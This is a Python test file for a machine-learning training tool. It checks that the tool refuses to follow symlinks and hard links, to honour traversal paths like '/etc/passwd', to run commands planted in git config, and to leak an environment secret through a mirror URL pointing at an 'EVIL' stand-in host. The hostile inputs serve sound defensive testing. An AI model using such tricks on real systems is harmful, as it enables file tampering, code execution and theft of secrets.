"""A run folder, a config or a repository of somebody else: nothing outside is written, run, fetched or deleted."""

import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from dltrain.devices import runtime
from dltrain.errors import ConfigError, DiskError
from dltrain.runs.folder import claim

pytestmark = pytest.mark.usefixtures("quickly_compiled")

NAMES = (
    *(
        "config.yaml",
        "overrides.yaml",
        "environment.json",
        "data.json",
        "splits.npz",
        "model.json",
        "metrics.jsonl",
    ),
    *("results.csv", "summary.json", "train.log", "lock", "written.txt"),
    *("report", "report/curves.png", "checkpoints", "checkpoints/step_00000026", "tensorboard"),
    *("tensorboard/train", "nonfinite", "report/another", "tensorboard/plugins"),
)


@pytest.fixture
def run(digits_run, tmp_path) -> Path:
    """A copy of a run that may be changed, next to a folder `outside`."""
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside/bashrc").write_text("export A=1\n")
    return shutil.copytree(digits_run.folder, tmp_path / "run")


def entries(folder: Path) -> dict[str, bytes]:
    """Everything in a folder, links unread."""
    found = {str(p.relative_to(folder)): b"" if p.is_dir() else p.read_bytes() for p in folder.rglob("*")}
    return found


@pytest.mark.parametrize("name", NAMES)
def test_a_link_in_a_run_folder_is_refused_before_anything_is_written(dltrain, run, name):
    """Resuming and overwriting, with a link to a file or a folder that exists, and to one that does not."""
    outside = run.parent / "outside"
    path = run / name
    existing = path.is_dir() or name in ("nonfinite", "tensorboard/plugins")
    for target in (outside if existing else outside / "bashrc", outside / "new"):
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        else:
            path.unlink(missing_ok=True)
        path.symlink_to(target)
        before = entries(outside)
        result = dltrain("resume", "run", "epochs=3", cwd=run.parent)
        assert result.code in (2, 6) and name.split("/")[0] in result.err, result
        with pytest.raises((ConfigError, DiskError), match=name.split("/")[0]):
            claim(run, name="x", overwrite=True)
        assert entries(outside) == before
    assert path.is_symlink()


def test_a_link_in_the_place_of_a_temporary_file_is_not_followed(dltrain, run):
    outside = run.parent / "outside"
    before = entries(outside)
    for name in (
        ".config.yaml.new",
        ".summary.json.new",
        "report/.curves.png.new",
        "checkpoints/.writing_00000039",
    ):
        (run / name).symlink_to(outside / "bashrc" if "writing" not in name else outside)
    result = dltrain("resume", "run", "epochs=3", cwd=run.parent)
    assert (result.code, "is a link" in result.err) == (6, True), result
    for name in ("report/.curves.png.new", "checkpoints/.writing_00000039"):
        (run / name).unlink()
    assert dltrain("resume", "run", "epochs=3", cwd=run.parent, figures=False).code == 0
    assert entries(outside) == before


def test_a_hard_link_is_not_written_to(dltrain, run):
    outside = run.parent / "outside"
    before = entries(outside)
    for name in ("train.log", "lock"):
        (run / name).unlink(missing_ok=True)
        os.link(outside / "bashrc", run / name)
        result = dltrain("resume", "run", "epochs=3", cwd=run.parent)
        assert (result.code, f"run/{name}: is a hard link" in result.err) == (6, True), result
        (run / name).unlink()
    for name in ("config.yaml", "metrics.jsonl", "summary.json"):  # which are replaced
        shutil.copy(run / name, outside / name)
        (run / name).unlink()
        os.link(outside / name, run / name)
    before = entries(outside)
    assert dltrain("resume", "run", "epochs=3", cwd=run.parent, figures=False).code == 0
    assert entries(outside) == before


def test_a_run_folder_that_is_itself_reached_by_a_link_is_used(dltrain, run):
    (run.parent / "latest").symlink_to(run)
    assert dltrain("resume", "latest", "epochs=3", cwd=run.parent, figures=False).code == 0


OVERWRITTEN = {
    "a folder with a config.yaml": ({"config.yaml": "a: 1", "notes.txt": "x"}, "has a config.yaml that no run"),
    "a folder with a report": ({"report/thesis.tex": "x"}, "has a report that no run"),
    "a folder with data": ({"data.json": "[]"}, "has a data.json that no run"),
    "a folder with a lock of another program": ({"lock": "yarn\n"}, "has a lock that no run"),
    "a list of files that no run wrote": ({"written.txt": "config.yaml\n", "config.yaml": "a: 1"}, "written.txt"),
}


@pytest.mark.parametrize("case", OVERWRITTEN)
@pytest.mark.parametrize("overwrite", ["true", "false"])
def test_a_folder_of_something_else_is_neither_deleted_nor_written_to(dltrain, tmp_path, case, overwrite):
    files, message = OVERWRITTEN[case]
    for name, text in files.items():
        (tmp_path / "mine" / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "mine" / name).write_text(text)
    before = entries(tmp_path / "mine")
    result = dltrain("data=iris", "steps=1", "output_dir=mine", f"overwrite={overwrite}", cwd=tmp_path)
    assert result.code == 2 and message in result.err, result
    assert entries(tmp_path / "mine") == before


def test_overwriting_a_run_keeps_the_files_of_its_user(dltrain, run):
    mine = (
        "notes.txt",
        "report/thesis.tex",
        "report/curves_mine.png",
        "tensorboard/train/notes",
        "sub/config.yaml",
    )
    mine = (*mine, "checkpoints/notes", "checkpoints/best/weights")
    for name in mine:
        (run / name).parent.mkdir(exist_ok=True)
        (run / name).write_text("mine")
    events = set((run / "tensorboard").rglob("events.*"))
    inside = run / "checkpoints/step_00000026/notes"
    inside.write_text("mine")
    with (run / "written.txt").open("a") as listed:
        listed.write("notes.txt\nsub/config.yaml\n../outside/bashrc\n/etc/passwd\nreport/../notes.txt\n")
    result = dltrain(
        *("data=iris", "model=linear", "steps=1", "output_dir=run", "overwrite=true"),
        cwd=run.parent,
        figures=False,
    )
    assert result.code == 0, result
    for name in (*mine, "checkpoints/kept_step_00000026/notes", "../outside/bashrc"):
        assert (run / name).exists(), name
    assert not (run / "report/curves.png").exists() and not (run / "checkpoints/step_00000026").exists()
    assert not events & set((run / "tensorboard").rglob("events.*"))


GIT = {
    "core.fsmonitor": "{touch}; false",
    "core.hooksPath": "{hooks}",
    "filter.a.clean": "{touch}; cat",
    "filter.a=b.clean": "{touch}; cat",
    "filter.x y.process": "{touch}",
    "core.sshCommand": "{touch}",
    "core.pager": "{touch}",
}


@pytest.mark.parametrize("key", GIT)
def test_no_program_of_a_repository_is_run(tmp_path, monkeypatch, key):
    """As its owner does, `git status` would run it: the test sees that first, where it does."""
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
    mark, hooks = tmp_path / "mark", tmp_path / "hooks"
    hooks.mkdir()
    for name in ("post-index-change", "fsmonitor-watchman"):
        (hooks / name).write_text(f"#!/bin/sh\ntouch {mark}\n")
        (hooks / name).chmod(0o755)
    repository = tmp_path / "repository"
    git = ["git", "-C", str(repository), "-c", "user.name=a", "-c", "user.email=a@b"]
    subprocess.run(["git", "init", "-q", str(repository)], check=True)
    name = key.split(".")[1] if key.startswith("filter") else "none"
    (repository / ".gitattributes").write_text(f"file filter={name.split(' ')[0]}\n")
    (repository / "file").write_text("a\n")
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-qm", "first"], check=True)
    subprocess.run([*git, "config", key, GIT[key].format(touch=f"touch {mark}", hooks=hooks)], check=True)
    monkeypatch.chdir(repository)
    os.utime(repository / "file", (1, 1))
    subprocess.run(["git", "status"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    assert mark.exists() or key in ("core.sshCommand", "core.pager", "filter.x y.process", "filter.a=b.clean")
    mark.unlink(missing_ok=True)
    os.utime(repository / "file", (2, 2))
    assert re.fullmatch(r"[0-9a-f]{40}\+?", runtime._commit())
    assert not mark.exists()


def test_a_changed_file_is_still_noticed(tmp_path, monkeypatch):
    git = ["git", "-c", "user.name=a", "-c", "user.email=a@b"]
    monkeypatch.chdir(tmp_path)
    assert runtime._commit() == ""
    (tmp_path / "file").write_text("a\n")
    for words in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "first"]):
        subprocess.run([*git, *words], check=True)
    assert re.fullmatch(r"[0-9a-f]{40}", runtime._commit())
    (tmp_path / "file").write_text("b\n")
    assert runtime._commit().endswith("+")


EVIL = "http://127.0.0.1:9/"
TOKEN = "${oc.env:TOKEN_OF_MINE}"
UNTRUSTED = {
    f"data: {{mirrors: ['{EVIL}{TOKEN}/']}}": "data.mirrors.0",
    f"data: {{mirrors: ['{EVIL}']}}": "data.mirrors.0",
    "data: {mirrors: ['//127.0.0.1:9/']}": "data.mirrors.0",
    f"tags: ['{EVIL}']\ndata: {{mirrors: ['${{tags.0}}']}}": "data.mirrors.0",
    f"tags: ['{TOKEN}']\ndata: {{root: 'x/${{tags.0}}'}}": "data.root",
    f"data: {{root: '{TOKEN}'}}": "data.root",
    f"data: {{root: '/net/host/{TOKEN}'}}": "data.root",
    f"data: {{root: '${{oc.decode:{TOKEN}}}'}}": "data.root",
    f"data: {{name: '{TOKEN}'}}": "data.name",
    f"tags: ['a/{TOKEN}']": "tags.0",
    "output_dir: /tmp/x": "output_dir=/tmp/x",
    f"name: 'a-{TOKEN}'": "name",
    "overwrite: true": "overwrite",
    "hydra:\n  run: {dir: x}": "hydra.run",
    "hydra: {sweep: {dir: x}}": "hydra.sweep.dir",
    "hydra: {mode: MULTIRUN, sweep: {subdir: '../x'}}": "hydra.sweep.subdir",
    "hydra: {mode: MULTIRUN, sweeper: {params: {trust: '[os]'}}}": "trust",
    "hydra: {mode: MULTIRUN, sweeper: {params: {output_dir: x}}}": "output_dir",
    "hydra: {mode: MULTIRUN, sweeper: {params: {overwrite: 'true'}}}": "overwrite",
    f"hydra: {{mode: MULTIRUN, sweeper: {{params: {{data.mirrors: '[{EVIL}]'}}}}}}": "data.mirrors",
    f"hydra: {{mode: MULTIRUN, sweeper: {{params: {{name: 'a{TOKEN}'}}}}}}": "name",
    "hydra: {sweeper: {storage: 'sqlite:////tmp/x.db'}}": "hydra.sweeper.storage",
}
SMALL = ("data=mnist", "model=linear", "dry_run=true")


@pytest.fixture
def secret(monkeypatch, tmp_path) -> str:
    """A secret in the environment, and nothing that could be downloaded instead."""
    monkeypatch.setenv("TOKEN_OF_MINE", "hunter2-correct-horse")
    monkeypatch.delenv("DLTRAIN_DATA", raising=False)
    monkeypatch.setenv("DLTRAIN_CACHE", str(tmp_path / "cache"))
    return "hunter2-correct-horse"


@pytest.mark.parametrize("text", UNTRUSTED)
def test_a_file_of_others_chooses_no_host_no_folder_and_reads_no_secret_into_one(dltrain, tmp_path, text, secret):
    (tmp_path / "conf/experiment").mkdir(parents=True)
    (tmp_path / "conf/experiment/a.yaml").write_text(f"# @package _global_\n{text}\n")
    result = dltrain("-cd", "conf", "experiment=a", *SMALL, cwd=tmp_path)
    assert result.code == 2 and UNTRUSTED[text] in result.err, result
    assert secret not in result.err + result.out
    assert {p.name for p in tmp_path.iterdir()} <= {"conf", "multirun"}


SAVED = {text: key for text, key in UNTRUSTED.items() if text.startswith("data")}


@pytest.mark.parametrize("text", SAVED)
@pytest.mark.parametrize("command", ["resume", "evaluate"])
def test_neither_does_the_config_of_a_run(dltrain, run, text, command, secret):
    config = (run / "config.yaml").read_text()
    own = (Path(__file__).parents[2] / "configs/data/mnist.yaml").read_text().replace("\n", "\n  ")
    start, end = config.index("data:\n"), config.index("model:\n")
    inside = text.removeprefix("data: {").removesuffix("}")
    key = inside.partition(":")[0]
    kept = re.sub(rf"(?ms)^  {key}:.*?(?=^  \w)", "", f"data:\n  {own}\n").rstrip()
    (run / "config.yaml").write_text(f"{config[:start]}{kept}\n  {inside}\n{config[end:]}")
    result = dltrain(command, "run", cwd=run.parent)
    assert result.code == 2 and f"{SAVED[text]}=" in result.err and "the run's config.yaml" in result.err, result
    assert secret not in result.err


def test_what_is_typed_is_trusted(dltrain, tmp_path, monkeypatch):
    monkeypatch.setenv("DATA_OF_MINE", str(tmp_path))
    (tmp_path / "conf/experiment").mkdir(parents=True)
    (tmp_path / "conf/experiment/a.yaml").write_text(
        "# @package _global_\ndata: {path: '${oc.env:DATA_OF_MINE}/x'}\n"
    )
    (tmp_path / "text").write_text("to be or not to be " * 100)
    words = ("-cd", "conf", "experiment=a", "data=characters", "data.length=8", "model=rnn", "--cfg", "job")
    assert "data.path=${oc.env:DATA_OF_MINE}/x" in dltrain(*words, cwd=tmp_path).err
    result = dltrain(*words, "data.path='${oc.env:DATA_OF_MINE}/text'", cwd=tmp_path)
    assert result.code == 0, result


def test_a_damaged_newest_checkpoint_is_left_where_it_is_by_those_who_only_read(dltrain, run):
    newest = sorted((run / "checkpoints").iterdir())[-1]
    file = max((p for p in newest.rglob("*") if p.is_file()), key=lambda p: p.stat().st_size)
    file.write_bytes(file.read_bytes()[:-1])
    before = entries(run)
    steps = len(list((run / "checkpoints").iterdir()))
    for line in (("hash", "run"), ("evaluate", "run", "checkpoint=last")):
        result = dltrain(*line, cwd=run.parent)
        assert f"{newest.name} is damaged" in result.err and result.code == (0 if steps > 1 else 4), result
        assert entries(run) == before


@pytest.mark.slow
def test_a_sweep_in_the_place_of_another_keeps_what_is_not_of_it(dltrain, tmp_path):
    mine = ("7/lock", "7/thesis.tex", "8/config.yaml", "notes/failure.txt", "notes/mine", "empty/x/lock")
    for name in mine:
        (tmp_path / "grid" / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "grid" / name).write_text("mine")
    (tmp_path / "grid/jobs.txt").write_text("..\n/tmp\nnotes\n")
    single = dltrain("data=iris", "model=linear", "steps=1", "output_dir=grid/single", cwd=tmp_path, figures=False)
    assert single.code == 0
    words = ("-m", "data=iris", "model=linear", "steps=1", "quiet=true", "output_dir=grid", "overwrite=true")
    assert dltrain(*words, "seed=0,1", cwd=tmp_path, figures=False).code == 0
    assert dltrain(*words, "seed=3", cwd=tmp_path, figures=False).code == 0
    assert (tmp_path / "grid/single/config.yaml").exists()  # a run, but not of the sweep
    assert not (tmp_path / "grid/1").exists() and (tmp_path / "grid/0/summary.json").exists()
    for name in mine:
        assert (tmp_path / "grid" / name).read_text() == "mine"


@pytest.mark.parametrize("name", ["0", "multirun.yaml", "sweep.csv", ".jobs"])
def test_a_link_in_the_folder_of_a_sweep_is_refused(dltrain, run, name):
    grid, outside = run.parent / "grid", run.parent / "outside"
    grid.mkdir()
    (grid / name).symlink_to(run if name == "0" else outside / "new")
    before = entries(run), entries(outside)
    words = ("-m", "data=iris", "model=linear", "steps=1", "seed=0,1", "output_dir=grid", "overwrite=true")
    result = dltrain(*words, cwd=run.parent)
    assert result.code == 2 and f"{name}: is a link" in result.err, result
    assert (entries(run), entries(outside)) == before
